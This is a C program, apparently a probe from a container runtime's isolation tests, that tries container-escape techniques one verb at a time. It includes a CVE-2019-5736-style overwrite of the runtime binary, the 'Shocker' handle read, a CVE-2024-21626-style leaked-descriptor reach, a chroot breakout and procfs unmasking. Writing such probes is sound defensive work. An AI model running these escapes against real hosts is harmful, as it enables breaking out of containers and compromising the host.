/* What a hostile program would try with files, one verb a try, as probe.c: "files VERB [ARGUMENT ...]". Static. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

#define START_PROGRAM "minictr-init"
#define AHEAD 6 /* process numbers beyond the newest that are tried */

static int said(long result, const char *what)
{
    if (result < 0)
        printf("%s: %s\n", what, strerror(errno));
    else
        printf("ok %s %ld\n", what, result);
    return result < 0;
}

/* Whether standard input has ended or says something: what a try that goes on is told by. */
static int told_to_stop(void)
{
    struct pollfd input = {0, POLLIN, 0};
    return poll(&input, 1, 0) != 0;
}

static ssize_t read_file(const char *path, char *text, size_t size)
{
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return -1;
    ssize_t n = read(fd, text, size - 1);
    close(fd);
    text[n > 0 ? n : 0] = 0;
    return n;
}

/* DIRECTORY NAME OTHER: exchange the two until told to stop; one of them is a link. */
static int try_exchange(char **argument)
{
    unsigned long rounds = 0;
    int fd = open(argument[0], O_PATH | O_DIRECTORY);
    if (fd < 0)
        return said(fd, "open");
    printf("ok exchange\n");
    for (; !told_to_stop(); rounds++)
        if (syscall(SYS_renameat2, fd, argument[1], fd, argument[2], 2 /* RENAME_EXCHANGE, linux/fs.h */) < 0)
            return said(-1, "renameat2");
    printf("%lu\n", rounds);
    return 0;
}

static int newest(void)
{
    char text[128], *last;
    if (read_file("/proc/loadavg", text, sizeof(text)) < 0) /* its last word: the newest pid of this namespace */
        return 0;
    last = strrchr(text, ' ');
    return last ? atoi(last + 1) : 0;
}

/* The executable of the start program PID, open for reading; -1 when it is not one, or may not be opened. */
static int executable(int pid, unsigned long *seen)
{
    char path[64], name[64];
    snprintf(path, sizeof(path), "/proc/%d/comm", pid);
    if (read_file(path, name, sizeof(name)) < 0 || strncmp(name, START_PROGRAM, strlen(START_PROGRAM)))
        return -1;
    (*seen)++;
    snprintf(path, sizeof(path), "/proc/%d/exe", pid);
    return open(path, O_RDONLY | O_CLOEXEC);
}

/* FD, or -1 and it is closed, where it is the program that the joining process has executed meanwhile. */
static int not_the_program(int fd, const struct stat *program)
{
    struct stat found;
    if (fd < 0 || fstat(fd, &found) < 0 || (found.st_ino != program->st_ino || found.st_dev != program->st_dev))
        return fd;
    close(fd);
    return -1;
}

/* CVE-2019-5736: hold the executable of whoever joins to execute PROGRAM, and write to it when it is not in use. */
static int try_overwrite(char **argument)
{
    struct stat program;
    unsigned long seen = 0, opened = 0, written = 0;
    int kept[256], last = newest();
    if (stat(argument[0], &program) < 0)
        return said(-1, argument[0]);
    printf("ok waiting\n");
    while (!told_to_stop()) {
        int now = newest();
        for (int pid = (now < last ? now : last) + 1; pid < last + AHEAD; pid++) {
            int fd = opened < 256 ? not_the_program(executable(pid, &seen), &program) : -1;
            if (fd >= 0)
                kept[opened++] = fd;
        }
        last = now > 1 ? now - 1 : now;
    }
    for (unsigned long i = 0; i < opened; i++) {
        char path[64];
        snprintf(path, sizeof(path), "/proc/self/fd/%d", kept[i]);
        int fd = open(path, O_WRONLY | O_CLOEXEC);
        written += fd >= 0 && write(fd, "owned", 5) == 5;
    }
    printf("seen=%lu opened=%lu written=%lu\n", seen, opened, written);
    return 0;
}

/* PATH KIND MAJOR MINOR: make a device node and open it. "-" for KIND: it is there already. */
static int try_device(char **argument)
{
    mode_t kind = argument[1][0] == 'b' ? S_IFBLK : S_IFCHR;
    if (argument[1][0] != '-' && mknod(argument[0], kind | 0600, makedev(atoi(argument[2]), atoi(argument[3]))) < 0)
        return said(-1, "mknod");
    return said(open(argument[0], O_RDONLY | O_NONBLOCK), "open");
}

/* PATH: whether it can be opened for writing; nothing is written. */
static int try_may_write(char **argument)
{
    return said(open(argument[0], O_WRONLY), "open");
}

/* "Shocker": MOUNT TYPE HEX, a file by its handle on the file system that MOUNT is on; prints its content. */
static int try_handle(char **argument)
{
    struct {
        unsigned bytes;
        int type;
        unsigned char data[128];
    } handle = {0, atoi(argument[1]), {0}};
    for (const char *hex = argument[2]; hex[0] && hex[1] && handle.bytes < 128; hex += 2) {
        char digits[3] = {hex[0], hex[1], 0};
        handle.data[handle.bytes++] = (unsigned char)strtoul(digits, 0, 16);
    }
    char text[64];
    int here = open(argument[0], O_RDONLY | O_DIRECTORY);
    int fd = (int)syscall(SYS_open_by_handle_at, here, &handle, O_RDONLY);
    if (fd < 0)
        return said(fd, "open_by_handle_at");
    ssize_t n = read(fd, text, sizeof(text) - 1);
    text[n > 0 ? n : 0] = 0;
    printf("ok %s", text);
    return 0;
}

static int read_from_new_proc(const char *name)
{
    char path[256], text[64];
    if (mount("proc", "/tmp", "proc", 0, 0) < 0)
        return said(-1, "mount");
    snprintf(path, sizeof(path), "/tmp/%s", name);
    ssize_t n = read_file(path, text, sizeof(text));
    if (n == 0)
        errno = EACCES; /* masked */
    return said(n > 0 ? n : -1, "read");
}

/* A procfs of its own in new user, mount and pid namespaces, without the masks; NAME in it is read. */
static int try_nested_proc(char **argument)
{
    int status;
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID) < 0)
        return said(-1, "unshare");
    pid_t child = fork();
    if (child == 0)
        exit(read_from_new_proc(argument[0]));
    waitpid(child, &status, 0);
    return WEXITSTATUS(status);
}

/* In new user and mount namespaces: take away what is mounted over PATH, and read it. */
static int try_nested_umount(char **argument)
{
    char text[64];
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0)
        return said(-1, "unshare");
    if (umount2(argument[0], MNT_DETACH) < 0)
        return said(-1, "umount");
    return said(read_file(argument[0], text, sizeof(text)), "read");
}

static int try_new_proc(char **argument)
{
    return read_from_new_proc(argument[0]);
}

/* Whether PROOF, a path of the host, is to be seen by way of PREFIX. */
static int leads_out(const char *prefix, const char *proof)
{
    static const char *const ups[] = {"", "/..", "/../../../../../../../.."};
    struct stat found;
    char path[4096];
    for (size_t i = 0; i < sizeof(ups) / sizeof(ups[0]); i++) {
        snprintf(path, sizeof(path), "%s%s%s", prefix, ups[i], proof);
        if (stat(path, &found) == 0) {
            printf("ok %s\n", path);
            return 1;
        }
    }
    return 0;
}

/* CVE-2024-21626: PROOF by any descriptor, working directory or root of any process that is seen. */
static int try_reach(char **argument)
{
    char path[512];
    DIR *proc = opendir("/proc");
    for (struct dirent *entry; proc && (entry = readdir(proc));) {
        if (atoi(entry->d_name) <= 0 && strcmp(entry->d_name, "self"))
            continue;
        for (const char *const *name = (const char *const[]){"cwd", "root", 0}; *name; name++) {
            snprintf(path, sizeof(path), "/proc/%.64s/%s", entry->d_name, *name);
            if (leads_out(path, argument[0]))
                return 0;
        }
        for (int fd = 0; fd < 256; fd++) {
            snprintf(path, sizeof(path), "/proc/%.64s/fd/%d", entry->d_name, fd);
            if (leads_out(path, argument[0]))
                return 0;
        }
    }
    printf("nothing: No such file or directory\n");
    return 1;
}

/* Out of a chroot by a descriptor that was opened above it. */
static int try_walk_by_fd(char **argument)
{
    struct stat found;
    int above = open("/", O_RDONLY | O_DIRECTORY);
    mkdir("/tmp/deeper", 0700);
    if (chroot("/tmp/deeper") < 0)
        return said(-1, "chroot");
    if (fchdir(above) < 0)
        return said(-1, "fchdir");
    for (int i = 0; i < 64; i++)
        if (chdir("..") < 0)
            return said(-1, "chdir");
    if (chroot(".") < 0)
        return said(-1, "chroot");
    return said(stat(argument[0], &found), argument[0]);
}

static const struct {
    const char *verb;
    int arguments;
    int (*function)(char **argument);
} VERBS[] = {
    {"exchange", 3, try_exchange}, {"overwrite", 1, try_overwrite},     {"device", 4, try_device},
    {"handle", 3, try_handle},     {"may-write", 1, try_may_write},     {"nested-umount", 1, try_nested_umount},
    {"new-proc", 1, try_new_proc}, {"nested-proc", 1, try_nested_proc}, {"walk-by-fd", 1, try_walk_by_fd},
    {"reach", 1, try_reach},
};

int main(int argc, char **argv)
{
    setvbuf(stdout, 0, _IOLBF, 0);
    for (size_t i = 0; argc > 1 && i < sizeof(VERBS) / sizeof(VERBS[0]); i++)
        if (!strcmp(argv[1], VERBS[i].verb) && argc - 2 >= VERBS[i].arguments)
            return VERBS[i].function(argv + 2);
    return 2;
}
